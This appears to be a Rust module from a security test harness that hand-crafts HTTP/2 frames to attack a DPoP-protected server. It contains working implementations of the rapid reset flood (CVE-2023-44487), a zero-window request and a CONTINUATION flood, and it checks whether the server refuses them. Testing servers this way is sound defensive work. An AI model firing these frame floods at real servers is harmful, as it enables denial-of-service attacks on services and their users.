//! Attacks that no HTTP/2 client can be made to carry out: frames by hand (RFC 9113 section 4.1).

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::attacker::Attacker;
use super::held::HELD;
use super::outcome::Outcome;
use crate::client::{Fault, Target, proof};

impl Attacker {
    /// Bad requests, each reset at once (CVE-2023-44487).
    pub(super) async fn rapid_reset(&self) -> Outcome {
        let target = &self.targets.accounts;
        let token = self.thief.token(&self.issuer);
        let proof = proof(&self.thief.key, &token, "GET", &target.uri(), Fault::Uri);
        let block = header_block(target, &token, &proof);
        let mut bytes = opening(DEFAULT_WINDOW);
        for stream in (1..).step_by(2).take(200) {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        }
        answered(target, &bytes).await
    }

    /// A valid request whose response may have no body yet.
    pub(super) async fn window_zero(&self) -> Outcome {
        let target = &self.targets.large;
        let (token, proof) = self.valid("GET", target);
        let block = header_block(target, &token, &proof);
        let mut bytes = opening(0);
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1, &block));
        let Ok(mut stream) = target.connect().await else {
            return Outcome::UNANSWERED;
        };
        let written = stream.write_all(&bytes).await;
        sleep(HELD).await;
        let mut outcome = match written {
            Ok(()) => statuses(&read(&mut stream).await),
            Err(_) => Outcome::UNANSWERED,
        };
        // The token and the proof are valid.
        outcome.granted = std::mem::take(&mut outcome.wrong);
        outcome
    }

    /// A header block without an end, with a valid token and proof in its first frame.
    pub(super) async fn continuations(&self) -> Outcome {
        let target = &self.targets.accounts;
        let (token, proof) = self.valid("GET", target);
        let block = header_block(target, &token, &proof);
        let mut bytes = opening(DEFAULT_WINDOW);
        bytes.extend(frame(HEADERS, END_STREAM, 1, &block));
        for number in 0..500 {
            let field = field(&format!("x-more-{number}"), &"a".repeat(1_000));
            bytes.extend(frame(CONTINUATION, 0, 1, &field));
        }
        answered(target, &bytes).await
    }
}

/// What the server sends within a second of silence.
async fn answered(target: &Target, bytes: &[u8]) -> Outcome {
    let Ok(mut stream) = target.connect().await else {
        return Outcome::UNANSWERED;
    };
    drop(timeout(Duration::from_secs(5), stream.write_all(bytes)).await);
    statuses(&read(&mut stream).await)
}

async fn read(stream: &mut TcpStream) -> Vec<u8> {
    let mut received = Vec::new();
    while let Ok(Ok(length)) = timeout(Duration::from_secs(1), stream.read_buf(&mut received)).await
    {
        if length == 0 || received.len() > MAX_RECEIVED {
            break;
        }
    }
    received
}

/// Counts responses by the first byte of their header block: 0x88 is `:status` 200 (RFC 7541 appendix A).
fn statuses(mut received: &[u8]) -> Outcome {
    let mut outcome = Outcome::default();
    while let Some((head, rest)) = received.split_first_chunk::<9>() {
        let [a, b, c, kind, ..] = *head;
        let length = usize::from(a) << 16 | usize::from(b) << 8 | usize::from(c);
        let Some((payload, rest)) = rest.split_at_checked(length) else {
            break;
        };
        match (kind, payload.first()) {
            (HEADERS, Some(0x88)) => outcome.wrong += 1,
            (HEADERS | GOAWAY, _) => outcome.refused += 1,
            _ => {}
        }
        received = rest;
    }
    if outcome.refused + outcome.wrong == 0 {
        outcome.unanswered = 1;
    }
    outcome
}

/// The preface, SETTINGS with the window of each stream, and the acknowledgement of the server's.
fn opening(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let mut setting = vec![0, INITIAL_WINDOW_SIZE];
    setting.extend(window.to_be_bytes());
    bytes.extend(frame(SETTINGS, 0, 0, &setting));
    bytes.extend(frame(SETTINGS, ACK, 0, &[]));
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    let [_, a, b, c] = length.to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn header_block(target: &Target, token: &str, proof: &str) -> Vec<u8> {
    let authorization = format!("DPoP {token}");
    let fields = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", target.authority()),
        (":path", target.path()),
        ("authorization", &authorization),
        ("dpop", proof),
    ];
    fields
        .iter()
        .flat_map(|(name, value)| field(name, value))
        .collect()
}

/// A literal field without indexing, with a new name and no Huffman code (RFC 7541 section 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        field.extend(integer(text.len()));
        field.extend(text.as_bytes());
    }
    field
}

/// With a prefix of 7 bits (RFC 7541 section 5.1).
fn integer(value: usize) -> Vec<u8> {
    let byte = |value: usize| u8::try_from(value).unwrap_or(u8::MAX);
    if value < 127 {
        return vec![byte(value)];
    }
    let (mut bytes, mut rest) = (vec![127], value - 127);
    while rest >= 128 {
        bytes.push(byte(rest % 128 + 128));
        rest /= 128;
    }
    bytes.push(byte(rest));
    bytes
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u8 = 4;
const DEFAULT_WINDOW: u32 = 65_535;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const MAX_RECEIVED: usize = 1024 * 1024;
